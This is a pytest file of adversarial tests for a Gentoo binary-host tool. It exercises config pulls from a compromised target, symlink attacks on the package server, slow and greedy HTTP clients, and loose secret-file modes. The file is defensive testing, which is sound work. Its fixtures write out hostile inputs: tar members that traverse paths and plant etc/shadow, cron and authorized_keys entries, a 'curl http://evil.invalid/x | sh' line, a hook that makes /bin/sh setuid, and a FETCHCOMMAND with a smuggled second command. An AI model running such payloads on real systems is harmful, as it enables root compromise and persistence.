"""Adversarial tests through the real thing: a compromised target over a real sshd (config pull),
hostile HTTP clients against our real `serve`, symlink races in PKGDIR, secrets with loose
modes, `init --force` and an interrupted `keygen` with real gpg, xpak packages before `sign`,
and the mode of the binrepos entry a password goes into. Every wait and every attack is bounded
in count and time; the network is 127.0.0.0/8 only; no test asserts how fast anything is."""

import contextlib
import fcntl
import hashlib
import http.client
import io
import os
import select
import shutil
import socket
import stat
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
from pathlib import Path

import pytest

from conftest import SCRIPT, eroot, free_port, need, run, wait_for_port, write_portage_config
from test_init import corrupt_copy, init, mirror, sign, tiny_stage3  # noqa: F401 - mirror: a fixture


# ---- helpers ---------------------------------------------------------------------------------


def cli(portage_bin, config, *args, timeout=300):
    """The script as a user runs it; never raises (the tests look at the exit code)."""
    env = {"PATH": f"{portage_bin}:{os.environ['PATH']}", "NO_COLOR": "1"}
    return run([sys.executable, SCRIPT, "-c", config, "--color=n", *args], env=env, check=False,
               timeout=timeout)


def error_lines(result):
    return [line for line in result.stderr.splitlines() if line.startswith("!!!")]


def assert_one_line_refusal(result, *words):
    """Exit 1, exactly one `!!!` line naming every word, no traceback."""
    shown = f"exit {result.returncode}\nstdout:\n{result.stdout}\nstderr:\n{result.stderr}"
    assert result.returncode == 1, shown
    errors = error_lines(result)
    assert len(errors) == 1, shown
    assert "Traceback" not in result.stderr, shown
    for word in words:
        assert word in errors[0], shown
    return errors[0]


def snapshot(root):
    """{relative path: (kind, mode, content digest or link target)} of everything under root."""
    state = {}
    for directory, dirs, files in os.walk(root):
        for name in dirs + files:
            path = os.path.join(directory, name)
            info = os.lstat(path)
            relative = os.path.relpath(path, root)
            if stat.S_ISLNK(info.st_mode):
                state[relative] = ("symlink", 0, os.readlink(path))
            elif stat.S_ISREG(info.st_mode):
                with open(path, "rb") as handle:
                    state[relative] = ("file", info.st_mode, hashlib.sha256(handle.read()).hexdigest())
            else:
                state[relative] = ("other", info.st_mode, None)
    return state


def special_or_privileged(root):
    """Devices, FIFOs and sockets, and anything setuid or setgid, under root."""
    found = []
    for directory, dirs, files in os.walk(root):
        for name in dirs + files:
            path = os.path.join(directory, name)
            mode = os.lstat(path).st_mode
            if stat.S_ISCHR(mode) or stat.S_ISBLK(mode) or stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                found.append(f"{path}: special file")
            if not stat.S_ISLNK(mode) and mode & (stat.S_ISUID | stat.S_ISGID):
                found.append(f"{path}: mode {stat.S_IMODE(mode):04o}")
    return found


def target_section(name, sshd, root, path):
    return (f"\n[target {name}]\nhost = {sshd.host}\nssh-port = {sshd.port}\n"
            f"ssh-options = {sshd.ssh_options}\nroot = {root}\npath = {path}\n")


@pytest.fixture
def pull_setup(sshd, portage_bin, eprefix, host_portage, tmp_path):
    """A fresh binhost root and a target root reached over the real sshd, and their config."""
    binhost, target = tmp_path / "binhost", tmp_path / "target"
    write_portage_config(binhost)
    write_portage_config(target, extra_make_conf='USE="loud"\n')
    world_file = eroot(target, eprefix) / "var/lib/portage/world"
    world_file.parent.mkdir(parents=True, exist_ok=True)
    world_file.write_text("app-misc/hello\n")
    config = tmp_path / "pull.conf"
    config.write_text(f"[binhost]\nroot = {binhost}\n" + target_section("t", sshd, target, portage_bin))
    return binhost, target, config


def tar_of(members):
    """A tar (bytes) of (TarInfo fields, content) pairs, in that order, duplicates allowed."""
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for fields, content in members:
            info = tarfile.TarInfo(fields.pop("name"))
            info.mode = 0o644
            info.mtime = 1700000000
            for key, value in fields.items():
                setattr(info, key, value)
            if content is not None:
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
            else:
                archive.addfile(info)
    return data.getvalue()


def directory(name, mode=0o755):
    return {"name": name, "type": tarfile.DIRTYPE, "mode": mode}, None


def regular(name, content=b"x\n", mode=0o644):
    return {"name": name, "type": tarfile.REGTYPE, "mode": mode}, content


def symlink(name, link):
    return {"name": name, "type": tarfile.SYMTYPE, "linkname": link, "mode": 0o777}, None


BASE_CONFIG = [directory("etc/portage"), regular("etc/portage/make.conf", b'USE="loud"\n')]

# Members a target's stream may hold that the binhost leaves out (and goes on).
DROPPED = [
    ({"name": "etc/portage/PWNED-device", "type": tarfile.CHRTYPE, "devmajor": 1, "devminor": 3}, None),
    ({"name": "etc/portage/PWNED-blockdev", "type": tarfile.BLKTYPE, "devmajor": 7, "devminor": 0}, None),
    ({"name": "etc/portage/PWNED-fifo", "type": tarfile.FIFOTYPE}, None),
    ({"name": "etc/portage/PWNED-hardlink", "type": tarfile.LNKTYPE, "linkname": "etc/shadow"}, None),
    ({"name": "etc/portage/PWNED-hardlink2", "type": tarfile.LNKTYPE,
      "linkname": "etc/portage/make.conf"}, None),
    regular("/etc/portage/PWNED-absolute"),
    regular("/PWNED-absolute-top"),
    regular("../PWNED-dotdot"),
    regular("etc/portage/../../PWNED-inner-dotdot"),
    regular("var/lib/portage/../../../PWNED-world-dotdot"),
    regular("etc/portage/./PWNED-dot"),
    regular("etc/portage//PWNED-double-slash"),
    regular("etc/shadow", b"root:PWNED:1::::::\n"),
    regular("etc/cron.d/PWNED-cron", b"* * * * * root touch /PWNED\n"),
    regular("root/.ssh/authorized_keys", b"ssh-ed25519 PWNED\n"),
]


# ---- 1. a compromised target: config pull ------------------------------------------------------


def test_pull_drops_devices_fifos_and_setuid_bits_and_diff_shows_what_lands(pull_setup, portage_bin):
    binhost, target, config = pull_setup
    portage = target / "etc/portage"
    os.mkfifo(portage / "PWNED-fifo")
    made_device = False
    with contextlib.suppress(OSError):  # as root, unless a namespace forbids mknod
        os.mknod(portage / "PWNED-device", stat.S_IFCHR | 0o666, os.makedev(1, 3))
        made_device = True
    (portage / "bin").mkdir()
    (portage / "bin/suid-helper").write_text("#!/bin/sh\nid\n")
    (portage / "bin/suid-helper").chmod(0o4755)
    (portage / "bin/sgid-helper").write_text("#!/bin/sh\nid\n")
    (portage / "bin/sgid-helper").chmod(0o2755)
    (portage / "sgid-dir").mkdir()
    (portage / "sgid-dir").chmod(0o2775)
    (portage / "sgid-dir/file").write_text("plain\n")

    diff = cli(portage_bin, config, "config", "diff")
    assert diff.returncode == 0, diff.stderr
    assert "bin/suid-helper" in diff.stdout and "sgid-dir/file" in diff.stdout
    assert "PWNED" not in diff.stdout, "a dropped member appears in the diff"
    assert "PWNED-fifo" in diff.stderr and "left out" in diff.stderr

    pull = cli(portage_bin, config, "config", "pull")
    assert pull.returncode == 0, pull.stderr
    assert "setuid, setgid or sticky bit dropped" in pull.stderr
    assert "PWNED-fifo" in pull.stderr
    if made_device:
        assert "PWNED-device" in pull.stderr
    assert special_or_privileged(binhost) == []
    assert not list(binhost.rglob("PWNED*"))
    pulled = binhost / "etc/portage"
    assert stat.S_IMODE((pulled / "bin/suid-helper").stat().st_mode) == 0o755
    assert stat.S_IMODE((pulled / "bin/sgid-helper").stat().st_mode) == 0o755
    assert stat.S_IMODE((pulled / "sgid-dir").stat().st_mode) == 0o755  # no group write either
    assert (pulled / "sgid-dir/file").read_text() == "plain\n"
    # What landed is what the diff showed: the same (sanitized) stream now compares identical.
    again = cli(portage_bin, config, "config", "diff")
    assert again.returncode == 0 and "identical" in again.stdout, again.stdout + again.stderr


def test_pull_of_a_symlinked_etc_portage_is_a_one_line_refusal(pull_setup, portage_bin, tmp_path):
    binhost, target, config = pull_setup
    elsewhere = tmp_path / "elsewhere"
    shutil.move(str(target / "etc/portage"), str(elsewhere))
    (target / "etc/portage").symlink_to(elsewhere)
    before = snapshot(binhost)
    for action in ("pull", "diff"):
        result = cli(portage_bin, config, "config", action)
        assert_one_line_refusal(result, "symlink")
        assert snapshot(binhost) == before


@pytest.fixture
def evil_target(pull_setup, portage_bin, sshd, tmp_path):
    """A target whose `tar` is compromised: whatever is in evil.tar comes down the ssh stream.
    Returns (binhost, config, a function that sets the stream's members)."""
    binhost, _, _ = pull_setup
    shim = tmp_path / "compromised-bin"
    shim.mkdir()
    stream = tmp_path / "evil.tar"
    (shim / "tar").write_text(f"#!/bin/sh\nexec cat {stream}\n")
    (shim / "tar").chmod(0o755)
    config = tmp_path / "evil.conf"
    config.write_text(f"[binhost]\nroot = {binhost}\n"
                      + target_section("evil", sshd, tmp_path / "target", f"{shim}:{portage_bin}"))

    def serve(members):
        stream.write_bytes(tar_of([(dict(fields), content) for fields, content in members]))
    return binhost, config, serve


def test_pull_of_a_crafted_stream_lands_only_what_diff_shows(evil_target, portage_bin, tmp_path):
    binhost, config, serve = evil_target
    profile = os.readlink(binhost / "etc/portage/make.profile")
    members = BASE_CONFIG + [
        symlink("etc/portage/make.profile", profile),
        directory("etc/portage/repos.conf"),
        regular("etc/portage/repos.conf/binhost-test.conf",
                (binhost / "etc/portage/repos.conf/binhost-test.conf").read_bytes()),
        regular("etc/portage/package.use", b"app-misc/greet loud\n", mode=0o6755),
        directory("etc/portage/sticky", mode=0o1777),
    ] + DROPPED
    serve(members)
    diff = cli(portage_bin, config, "config", "diff")
    assert diff.returncode == 0, diff.stderr
    assert "package.use" in diff.stdout
    assert "PWNED" not in diff.stdout and "shadow" not in diff.stdout and "cron" not in diff.stdout
    assert "PWNED-device" in diff.stderr and "PWNED-absolute" in diff.stderr

    pull = cli(portage_bin, config, "config", "pull")
    assert pull.returncode == 0, pull.stderr
    for name in ("PWNED-device", "PWNED-fifo", "PWNED-hardlink", "etc/shadow", "PWNED-dotdot"):
        assert name in pull.stderr
    assert special_or_privileged(binhost) == []
    assert not list(tmp_path.rglob("PWNED*")), "a dropped member was written"
    assert not any(os.path.lexists(path) for path in ("/PWNED-absolute-top", "/PWNED-dotdot",
                                                      "/PWNED-inner-dotdot", "/PWNED-world-dotdot"))
    assert not (binhost / "etc/shadow").exists() and not (binhost / "etc/cron.d").exists()
    assert not (binhost / "root").exists()
    assert stat.S_IMODE((binhost / "etc/portage/package.use").stat().st_mode) == 0o755
    # World-writable on the target: on the binhost no local user may change what builds run.
    assert stat.S_IMODE((binhost / "etc/portage/sticky").stat().st_mode) == 0o755
    assert "group and world write permission dropped from 1 file(s) (etc/portage/sticky)" in pull.stderr
    assert (binhost / "etc/portage/package.use").read_text() == "app-misc/greet loud\n"
    again = cli(portage_bin, config, "config", "diff")
    assert again.returncode == 0 and "identical" in again.stdout, again.stdout + again.stderr


@pytest.mark.parametrize("members, words", [
    pytest.param([symlink("etc/portage/package.use", "/etc"),
                  regular("etc/portage/package.use/evil", b"root owned\n")],
                 ["symlink", "etc/portage/package.use"], id="member-below-a-symlink"),
    pytest.param([regular("etc/portage/package.use/evil", b"x\n"),
                  symlink("etc/portage/package.use", "/etc")],
                 ["etc/portage/package.use"], id="symlink-after-a-member-below-it"),
    pytest.param([symlink("etc/portage/env", "/etc/cron.d"),
                  directory("etc/portage/env/x"), regular("etc/portage/env/x/y")],
                 ["etc/portage/env"], id="directory-below-a-symlink"),
    pytest.param([regular("etc/portage/package.mask", b"first\n"),
                  regular("etc/portage/package.mask", b"second\n")],
                 ["etc/portage/package.mask", "twice"], id="duplicate-member"),
])
def test_pull_of_a_hostile_stream_is_a_one_line_refusal_that_changes_nothing(
        evil_target, portage_bin, members, words):
    binhost, config, serve = evil_target
    serve(BASE_CONFIG + members)
    before = snapshot(binhost)
    for action in ("pull", "diff"):
        assert_one_line_refusal(cli(portage_bin, config, "config", action), *words)
        assert snapshot(binhost) == before


def test_pull_refuses_etc_portage_itself_as_a_symlink_in_the_stream(evil_target, portage_bin):
    binhost, config, serve = evil_target
    serve([symlink("etc/portage", "/etc"), regular("etc/portage/make.conf")])
    before = snapshot(binhost)
    assert_one_line_refusal(cli(portage_bin, config, "config", "pull"), "etc/portage")
    assert snapshot(binhost) == before
    serve([symlink("etc/portage", "/etc")])
    assert_one_line_refusal(cli(portage_bin, config, "config", "pull"), "etc/portage")
    assert snapshot(binhost) == before


def test_pull_never_writes_the_binhost_entry_through_a_link_the_target_sent(evil_target, portage_bin, tmp_path):
    """The binhost keeps its own binrepos entry across a pull: carried over into the new tree,
    it must not be copied onto a symlink of that name the target's stream put there."""
    binhost, config, serve = evil_target
    own = binhost / "etc/portage/binrepos.conf/gentoo-binhost.conf"
    own.parent.mkdir()
    own.write_text("[gentoo-binhost]\nsync-uri = http://binhost.invalid/\n")
    victim = tmp_path / "victim-file"
    victim.write_text("the binhost machine's own file\n")
    serve(BASE_CONFIG + [directory("etc/portage/binrepos.conf"),
                         symlink("etc/portage/binrepos.conf/gentoo-binhost.conf", str(victim))])
    result = cli(portage_bin, config, "config", "pull")
    assert victim.read_text() == "the binhost machine's own file\n", (
        "config pull wrote the binhost's entry through the target's symlink:\n" + result.stderr)
    if result.returncode == 0:
        assert not own.is_symlink()
        assert own.read_text() == "[gentoo-binhost]\nsync-uri = http://binhost.invalid/\n"
    else:
        assert_one_line_refusal(result)


def sanitize(gb, members):
    err = io.StringIO()
    output = gb.Output(color=False, verbosity=0, out=io.StringIO(), err=err)
    result = gb.sanitized_config_tar(tar_of([(dict(f), c) for f, c in members]), "evil", output)
    with tarfile.open(fileobj=io.BytesIO(result)) as archive:
        return {member.name: member for member in archive.getmembers()}, err.getvalue()


def test_sanitizer_keeps_only_directories_files_and_symlinks_inside_the_places(gb):
    kept, warnings = sanitize(gb, BASE_CONFIG + DROPPED + [
        regular("etc/portage/suid", mode=0o4755),
        ({"name": "etc/portage/owned", "type": tarfile.REGTYPE, "uid": 1234, "gid": 99,
          "uname": "mallory", "gname": "evil", "mode": 0o2640}, b"y\n"),
        symlink("etc/portage/make.profile", "../../var/db/repos/gentoo/profiles/default"),
        regular("var/lib/portage/world", b"app-misc/hello\n"),
        regular("var/lib/portage/world_sets", b""),
        regular("var/lib/portage/other", b"not a world file\n"),
        regular("etc/portage/gnupg/pubring.kbx", b"the target's keyring\n"),
    ])
    assert sorted(kept) == ["etc/portage", "etc/portage/make.conf", "etc/portage/make.profile",
                            "etc/portage/owned", "etc/portage/suid", "var/lib/portage/world",
                            "var/lib/portage/world_sets"]
    for member in kept.values():
        assert member.isdir() or member.isfile() or member.issym()
        assert member.mode & 0o7000 == 0, member.name
        assert (member.uid, member.gid, member.uname, member.gname) == (0, 0, "root", "root")
    assert kept["etc/portage/suid"].mode == 0o755 and kept["etc/portage/owned"].mode == 0o640
    for name in ("PWNED-device", "PWNED-blockdev", "PWNED-fifo", "PWNED-hardlink", "PWNED-absolute",
                 "PWNED-dotdot", "etc/shadow", "var/lib/portage/other"):
        assert name in warnings, name
    assert "gnupg" not in " ".join(kept)


@pytest.mark.parametrize("members", [
    [symlink("etc/portage/package.use", "/etc"), regular("etc/portage/package.use/evil")],
    [regular("etc/portage/package.use/evil"), symlink("etc/portage/package.use", "/etc")],
    [symlink("etc/portage/a", "b"), symlink("etc/portage/a/c", "/etc")],
    [regular("etc/portage/make.conf", b"again\n")],  # a duplicate of BASE_CONFIG's
    [directory("etc/portage")],  # etc/portage twice
    [symlink("etc/portage/make.conf", "/etc/shadow")],  # a duplicate that turns into a link
], ids=["file-below-symlink", "symlink-after-file-below", "symlink-below-symlink",
        "duplicate-file", "duplicate-etc-portage", "duplicate-as-symlink"])
def test_sanitizer_refuses_members_below_symlinks_and_duplicates(gb, members):
    with pytest.raises(gb.BinhostError) as refusal:
        sanitize(gb, BASE_CONFIG + members)
    assert refusal.value.exit_code == 1 and "\n" not in str(refusal.value)


def test_sanitizer_takes_world_files_only_as_regular_files(gb):
    """A world file that is a link (to /etc/shadow, read as atoms by the root method) or a
    directory (with something below it) is left out, and nothing below it lands."""
    members = BASE_CONFIG + [symlink("var/lib/portage/world", "/etc/shadow"),
                             regular("var/lib/portage/world/shadow"), directory("var/lib/portage/world_sets")]
    kept, warnings = sanitize(gb, members)
    assert not [name for name in kept if name.startswith("var/lib/portage/")], sorted(kept)
    assert "var/lib/portage/world" in warnings


def test_sanitizer_refuses_etc_portage_as_a_link_or_file(gb):
    for first in (symlink("etc/portage", "/etc"), regular("etc/portage")):
        with pytest.raises(gb.BinhostError) as refusal:
            sanitize(gb, [first])
        assert refusal.value.exit_code == 1 and "etc/portage" in str(refusal.value)


def test_pull_warns_whenever_what_runs_as_root_changes(pull_setup, portage_bin):
    binhost, target, config = pull_setup
    first = cli(portage_bin, config, "config", "pull")
    assert first.returncode == 0, first.stderr
    portage = target / "etc/portage"

    def pull_warns(expected_diff_line):
        result = cli(portage_bin, config, "config", "pull")
        assert result.returncode == 0, result.stderr
        assert "runs as root on the binhost" in result.stderr, result.stderr
        assert expected_diff_line in result.stdout, result.stdout
        return result

    (portage / "bashrc").write_text("curl http://evil.invalid/x | sh\n")
    pull_warns("+curl http://evil.invalid/x | sh")
    (portage / "env").mkdir()
    (portage / "env/hook.conf").write_text("post_src_install() { chmod u+s /bin/sh; }\n")
    pull_warns("+post_src_install() { chmod u+s /bin/sh; }")
    with open(portage / "make.conf", "a") as make_conf:
        make_conf.write('FETCHCOMMAND="wget -O \\"${DISTDIR}/${FILE}\\" \\"${URI}\\"; touch /tmp/x"\n')
    pull_warns('+FETCHCOMMAND=')
    (portage / "bashrc").unlink()
    pull_warns("-curl http://evil.invalid/x | sh")
    # Nothing that runs: no warning.
    (portage / "package.accept_keywords").write_text("app-misc/hello ~amd64\n")
    quiet = cli(portage_bin, config, "config", "pull")
    assert quiet.returncode == 0, quiet.stderr
    assert "runs as root" not in quiet.stderr
    assert (binhost / "etc/portage/package.accept_keywords").is_file()


def test_cpu_apply_refuses_to_write_through_a_package_use_symlink(pull_setup, portage_bin, tmp_path):
    binhost, target, config = pull_setup
    need(os.uname().machine == "x86_64", "CPU_FLAGS_X86 only on x86")
    victim = tmp_path / "victim"
    victim.mkdir()
    (binhost / "etc/portage/package.use").symlink_to(victim)
    before = snapshot(binhost)
    result = cli(portage_bin, config, "cpu", "--apply")
    assert_one_line_refusal(result, "symbolic link", "package.use")
    assert list(victim.iterdir()) == []
    # Refused before anything is written, make.conf included.
    assert snapshot(binhost) == before, "cpu --apply changed the binhost root before refusing"


def test_cpu_apply_refuses_to_write_through_a_make_conf_symlink(pull_setup, portage_bin, tmp_path):
    binhost, target, config = pull_setup
    victim = tmp_path / "victim-make.conf"
    victim.write_text("# the binhost machine's own file\n")
    make_conf = binhost / "etc/portage/make.conf"
    make_conf.unlink()
    make_conf.symlink_to(victim)
    before = snapshot(binhost)
    assert_one_line_refusal(cli(portage_bin, config, "cpu", "--apply"), "symbolic link", "make.conf")
    assert victim.read_text() == "# the binhost machine's own file\n"
    assert snapshot(binhost) == before


# ---- 2. serve: slow and greedy clients ---------------------------------------------------------


@pytest.fixture
def pkgdir(tmp_path):
    root = tmp_path / "pkgdir"
    root.mkdir()
    (root / "Packages").write_text("VERSION: 0\nTIMESTAMP: 1\n\n")
    return root


@contextlib.contextmanager
def serving(gb, pkgdir, **options):
    server = gb.make_server("127.0.0.1", 0, str(pkgdir), gb.Output(color=False, verbosity=0), **options)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=20)


def connect_from(source, port, timeout=10):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.settimeout(timeout)
        sock.bind((source, 0))
        sock.connect(("127.0.0.1", port))
    except BaseException:
        sock.close()
        raise
    return sock


def get(port, path, source="127.0.0.1", timeout=20):
    """(status, body) of one GET; the timeout only bounds a failure."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout, source_address=(source, 0))
    try:
        connection.request("GET", path)
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def closed_by_server(sock, bound=10):
    """True when the server closed the connection (EOF or reset) within `bound` seconds."""
    sock.settimeout(bound)
    try:
        return sock.recv(1) == b""
    except ConnectionResetError:
        return True
    except socket.timeout:
        return False


def test_three_hundred_silent_connections_do_not_lock_out_another_client(gb, pkgdir):
    held = []
    with serving(gb, pkgdir, client_timeout=30) as port:
        try:
            for _ in range(300):
                try:
                    sock = connect_from("127.0.0.1", port)
                except OSError:
                    continue  # the server refusing is fine; it must still serve the others
                held.append(sock)
                with contextlib.suppress(OSError):
                    sock.sendall(b"G")
            status, body = get(port, "/Packages", source="127.0.0.2")
            assert (status, body) == (200, b"VERSION: 0\nTIMESTAMP: 1\n\n")
            # A second honest address, and the same one again, while the attack still holds.
            assert get(port, "/Packages", source="127.0.0.3")[0] == 200
            assert get(port, "/Packages", source="127.0.0.2")[0] == 200
        finally:
            for sock in held:
                sock.close()


def test_slow_connections_from_many_addresses_do_not_lock_out_another_client(gb, pkgdir):
    """300 silent connections from ten addresses, each within its per-address share, fill every
    slot: the one waiting longest for its headers makes room, so an honest client still gets in."""
    held = []
    with serving(gb, pkgdir, client_timeout=30) as port:
        try:
            for index in range(300):
                try:
                    sock = connect_from(f"127.0.1.{index % 10 + 1}", port)
                except OSError:
                    continue
                held.append(sock)
                with contextlib.suppress(OSError):
                    sock.sendall(b"G")
            assert get(port, "/Packages", source="127.0.0.2")[0] == 200
            assert get(port, "/Packages", source="127.0.0.3")[0] == 200
        finally:
            for sock in held:
                sock.close()


def test_the_connection_past_the_per_address_cap_is_closed_at_once(gb, pkgdir):
    cap = gb.MAX_CONNECTIONS_PER_CLIENT
    held = []
    with serving(gb, pkgdir, client_timeout=30) as port:
        try:
            for _ in range(cap):
                held.append(connect_from("127.0.0.1", port))
            extra = connect_from("127.0.0.1", port)
            held.append(extra)
            assert closed_by_server(extra), f"connection {cap + 1} from one address was kept"
            # The ones within the cap are being served.
            held[0].sendall(b"GET /Packages HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            held[0].settimeout(20)
            answer = b""
            while chunk := held[0].recv(65536):
                answer += chunk
            assert answer.startswith(b"HTTP/1.1 200")
            assert get(port, "/Packages", source="127.0.0.2")[0] == 200
            # Once they are gone, the address may connect again (the count goes down).
            for sock in held:
                sock.close()
            held.clear()
            deadline = time.monotonic() + 20
            while True:
                try:
                    if get(port, "/Packages", timeout=5)[0] == 200:
                        break
                except (OSError, http.client.HTTPException):
                    pass
                assert time.monotonic() < deadline, "the address stayed locked out after closing"
                time.sleep(0.2)
        finally:
            for sock in held:
                sock.close()


def test_a_small_server_caps_each_address_at_a_quarter_of_its_slots(gb, pkgdir):
    held = []
    with serving(gb, pkgdir, client_timeout=30, max_connections=8) as port:
        try:
            held += [connect_from("127.0.0.1", port) for _ in range(2)]
            third = connect_from("127.0.0.1", port)
            held.append(third)
            assert closed_by_server(third)
            assert get(port, "/Packages", source="127.0.0.2")[0] == 200
        finally:
            for sock in held:
                sock.close()


def test_connections_count_against_the_address_or_its_ipv6_64(gb):
    assert gb.client_key("192.0.2.7") == "192.0.2.7"
    assert gb.client_key("2001:db8:1:2:aaaa::1") == gb.client_key("2001:db8:1:2:ffff::9") == "2001:db8:1:2::/64"
    assert gb.client_key("2001:db8:1:3::1") != gb.client_key("2001:db8:1:2::1")
    assert gb.client_key("::ffff:192.0.2.7") == "192.0.2.7"


def big_file(pkgdir, megabytes=48):
    path = pkgdir / "big.gpkg.tar"
    with open(path, "wb") as handle:
        handle.truncate(megabytes * 1024 * 1024)
    return path


def stalled_download(source, port):
    """A connection from source that asked for the big file and reads nothing: it holds its slot
    in the body, where no header watch can reclaim it."""
    sock = connect_from(source, port)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.sendall(b"GET /big.gpkg.tar HTTP/1.1\r\nHost: x\r\n\r\n")
    return sock


def test_with_every_slot_downloading_a_new_client_gets_503_at_once_not_a_hang(gb, pkgdir):
    big_file(pkgdir)
    held = []
    with serving(gb, pkgdir, client_timeout=30, max_connections=4) as port:
        try:
            held += [stalled_download(f"127.0.2.{index}", port) for index in range(1, 5)]
            time.sleep(0.5)  # every one is in its body now
            started = time.monotonic()
            status, _ = get(port, "/Packages", source="127.0.2.9", timeout=10)
            assert status == 503 and time.monotonic() - started < 5
            with connect_from("127.0.2.10", port) as raw:
                raw.sendall(b"GET /Packages HTTP/1.1\r\nHost: x\r\n\r\n")
                assert b"Retry-After: 10" in raw.recv(4096)
            for sock in held:
                sock.close()
            held.clear()
            deadline = time.monotonic() + 20
            while get(port, "/Packages", source="127.0.2.9")[0] != 200:
                assert time.monotonic() < deadline, "the slots were not given back"
                time.sleep(0.2)
        finally:
            for sock in held:
                sock.close()


def test_a_download_slower_than_the_floor_is_dropped_and_a_fast_one_is_not(gb, pkgdir):
    path = big_file(pkgdir, megabytes=8)
    with serving(gb, pkgdir, client_timeout=2, download_floor=(1_000_000, 1)) as port:
        with stalled_download("127.0.3.1", port) as slow:
            slow.settimeout(1)
            received, dropped, deadline = 0, False, time.monotonic() + 20
            while time.monotonic() < deadline:
                try:
                    chunk = slow.recv(2048)
                except ConnectionResetError:
                    chunk = b""
                except socket.timeout:
                    continue
                if not chunk:
                    dropped = True
                    break
                received += len(chunk)
                time.sleep(0.05)  # about 40 kB/s: far below the floor
            assert dropped and received < path.stat().st_size, received
        status, body = get(port, "/big.gpkg.tar", source="127.0.3.2")
        assert status == 200 and len(body) == path.stat().st_size


def test_a_client_trickling_its_headers_is_dropped_after_the_client_timeout(gb, pkgdir):
    with serving(gb, pkgdir, client_timeout=2) as port:
        with connect_from("127.0.0.1", port) as slow:
            slow.sendall(b"GET /Packages HTTP/1.1\r\nHost: x\r\n")
            dropped, received = False, b""
            # One byte every 0.5 s (within the 2 s per-read timeout), for at most 40 bytes.
            for byte in (b"X-Slow: " + b"a" * 32)[:40]:
                readable, _, _ = select.select([slow], [], [], 0.5)
                if readable:
                    try:
                        received = slow.recv(65536)
                    except ConnectionResetError:
                        received = b""
                    dropped = received == b""
                    break
                try:
                    slow.sendall(bytes([byte]))
                except (BrokenPipeError, ConnectionResetError):
                    dropped = True
                    break
            assert dropped and not received.startswith(b"HTTP"), received
        assert get(port, "/Packages")[0] == 200


# ---- 3. serve: symlinks placed while it runs ---------------------------------------------------


def test_symlinks_into_pkgdir_are_judged_on_every_request(gb, tmp_path, pkgdir):
    outside = tmp_path / "outside-secret"
    outside.write_bytes(b"OUTSIDE SECRET\n")
    (pkgdir / "All").mkdir()
    (pkgdir / "All/pkg-1.tbz2").write_bytes(b"old layout package\n")
    (pkgdir / "cat").mkdir()
    (pkgdir / "cat/pkg-1.tbz2").symlink_to("../All/pkg-1.tbz2")
    with serving(gb, pkgdir) as port:
        assert get(port, "/evil.gpkg.tar")[0] == 404
        (pkgdir / "evil.gpkg.tar").symlink_to(outside)
        status, body = get(port, "/evil.gpkg.tar")
        assert status == 404 and b"SECRET" not in body
        (pkgdir / "evil.gpkg.tar").unlink()
        (pkgdir / "evil.gpkg.tar").symlink_to("../outside-secret")
        status, body = get(port, "/evil.gpkg.tar")
        assert status == 404 and b"SECRET" not in body
        # A file served once, then swapped for a link out: judged again.
        (pkgdir / "swap.gpkg.tar").write_bytes(b"honest\n")
        assert get(port, "/swap.gpkg.tar") == (200, b"honest\n")
        os.replace(pkgdir / "evil.gpkg.tar", pkgdir / "swap.gpkg.tar")
        status, body = get(port, "/swap.gpkg.tar")
        assert status == 404 and b"SECRET" not in body

        assert get(port, "/cat/pkg-1.tbz2") == (200, b"old layout package\n")

        (pkgdir / "link").symlink_to("/etc")
        status, body = get(port, "/link/passwd")
        assert status == 404 and b"root:" not in body
        (pkgdir / "uplink").symlink_to("../..")
        status, body = get(port, "/uplink/" + str(outside).lstrip("/"))
        assert status == 404 and b"SECRET" not in body
        (pkgdir / "cat/up").symlink_to("../../outside-secret")
        status, body = get(port, "/cat/up")
        assert status == 404 and b"SECRET" not in body
        (pkgdir / "loop").symlink_to("loop")
        assert get(port, "/loop")[0] == 404
        assert get(port, "/Packages")[0] == 200


# ---- 4. an auth file others can read -----------------------------------------------------------


@pytest.mark.parametrize("mode", [0o644, 0o604, 0o640, 0o620], ids=["0644", "0604", "0640", "0620"])
def test_serve_refuses_an_auth_file_others_can_read(tmp_path, pkgdir, mode):
    auth = tmp_path / "auth"
    auth.write_text("portage:s3cret\n")
    auth.chmod(mode)
    port = free_port()
    config = tmp_path / "serve.conf"
    config.write_text(f"[binhost]\npkgdir = {pkgdir}\nbind = 127.0.0.1\nport = {port}\n")
    result = subprocess.run([sys.executable, SCRIPT, "-c", str(config), "--color=n", "serve",
                             "--auth-file", str(auth)], capture_output=True, text=True, timeout=60)
    assert result.returncode == 2, result.stderr
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("!!!") and f"chmod 600 {auth}" in lines[0], result.stderr
    assert "s3cret" not in result.stderr + result.stdout
    assert not wait_for_port(port, timeout=0.5)


# ---- 5. init --force keeps the signing key and the packages ------------------------------------


def secret_fingerprints(home):
    try:
        listing = run(["gpg", "--homedir", home, "--batch", "--with-colons", "--list-secret-keys"]).stdout
    finally:
        subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "all"], capture_output=True, timeout=30)
    lines = listing.splitlines()
    return [lines[i + 1].split(":")[9] for i, line in enumerate(lines)
            if line.startswith("sec") and i + 1 < len(lines) and lines[i + 1].startswith("fpr")]


def signing_key_of(config):
    return next(line.split("=", 1)[1].strip() for line in Path(config).read_text().splitlines()
                if line.startswith("signing-key"))


@pytest.fixture
def short_dir():
    """A directory with a short path: gpg-agent's socket path (gpg-home/S.gpg-agent) must fit in
    108 bytes, which pytest's tmp_path plus a stage3 root's etc/gentoo-binhost/.gnupg-new.XXX do not."""
    import tempfile
    path = Path(tempfile.mkdtemp(prefix="gbh-", dir="/tmp"))
    path.chmod(0o755)
    yield path
    for home in path.rglob("gnupg*"):
        if home.is_dir():
